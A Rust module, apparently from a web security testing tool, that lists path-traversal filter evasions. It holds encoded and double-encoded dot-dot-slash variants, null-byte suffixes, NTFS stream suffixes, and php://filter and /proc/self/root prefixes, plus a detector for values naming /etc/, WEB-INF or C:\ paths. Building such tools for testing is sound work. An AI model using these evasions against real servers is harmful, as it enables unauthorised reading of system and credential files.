//! File names and paths in values.

use super::super::catalogue::{Evasion, Group};
use super::super::fields::replaced;
use super::has;

const TWICE: &str = "applications that decode by themselves";
const WINDOWS: &str = "Windows";
const FILES: &str = "all systems";

pub(in super::super) const ALL: &[Evasion] = &[
    of("backslashes in file names", WINDOWS, |value| {
        replaced(value, "/", "\\")
    }),
    of("either slash in file names", WINDOWS, |value| {
        replaced(value, "../", "..\\/")
    }),
    of("dots in file names percent-encoded", TWICE, |value| {
        replaced(value, "..", "%2e%2e")
    }),
    of("slashes in file names percent-encoded", TWICE, |value| {
        replaced(value, "/", "%2f")
    }),
    of(
        "dots and slashes in file names percent-encoded",
        TWICE,
        |value| replaced(&replaced(value, "..", "%2e%2e"), "/", "%2f"),
    ),
    of(
        "dots and slashes in file names percent-encoded twice",
        TWICE,
        |value| replaced(&replaced(value, "..", "%252e%252e"), "/", "%252f"),
    ),
    of(
        "over-long UTF-8 in file names",
        "decoders that accept it",
        |value| replaced(&replaced(value, "..", "%c0%ae%c0%ae"), "/", "%c0%af"),
    ),
    of("dots as %u002e in file names", "IIS", |value| {
        replaced(value, "..", "%u002e%u002e")
    }),
    of(
        "file names that survive one removal",
        "filters that take `../` out once",
        |value| replaced(value, "../", "....//"),
    ),
    of(
        "file names that survive one removal within",
        "filters that take `../` out once",
        |value| replaced(value, "../", "..././"),
    ),
    of("path parameters in file names", "Java", |value| {
        replaced(value, "../", "..;/")
    }),
    of("two slashes in file names", FILES, |value| {
        replaced(value, "/", "//")
    }),
    of("dot segments in file names", FILES, |value| {
        replaced(value, "/", "/./")
    }),
    of("a directory first", FILES, |value| {
        [b"x/../", value].concat()
    }),
    of("more steps up", FILES, |value| match has(value, &["../"]) {
        true => [b"../../../../../../../../", value].concat(),
        false => value.to_vec(),
    }),
    of("from the root", FILES, |value| {
        let mut rest = value;
        while let Some(tail) = rest.strip_prefix(b"../") {
            rest = tail;
        }
        match rest.len() < value.len() {
            true => [b"/", rest].concat(),
            false => value.to_vec(),
        }
    }),
    of(
        "the scheme file:",
        "what opens URLs, such as PHP and Java",
        |value| match value.first() {
            Some(b'/') => [b"file://", value].concat(),
            _ => value.to_vec(),
        },
    ),
    of(
        "the file name by way of /proc",
        "Linux",
        |value| match value.first() {
            Some(b'/') => [b"/proc/self/root", value].concat(),
            _ => value.to_vec(),
        },
    ),
    of("a filter of PHP", "PHP", |value| {
        [b"php://filter/resource=", value].concat()
    }),
    of(
        "a zero byte and a suffix",
        "what is written in C, old PHP",
        |value| [value, b"\0.png"].concat(),
    ),
    of("dots at the end of file names", WINDOWS, |value| {
        [value, b"..."].concat()
    }),
    of("a stream at the end of file names", "NTFS", |value| {
        [value, b"::$DATA"].concat()
    }),
];

const fn of(name: &'static str, reader: &'static str, change: fn(&[u8]) -> Vec<u8>) -> Evasion {
    Evasion::value(Group::Traversal, name, reader, concerns, change)
}

fn concerns(value: &[u8]) -> bool {
    has(
        value,
        &["../", "..\\", "/etc/", "web-inf", "c:\\", "php://"],
    ) || value.starts_with(b"/") && !value.starts_with(b"//")
}
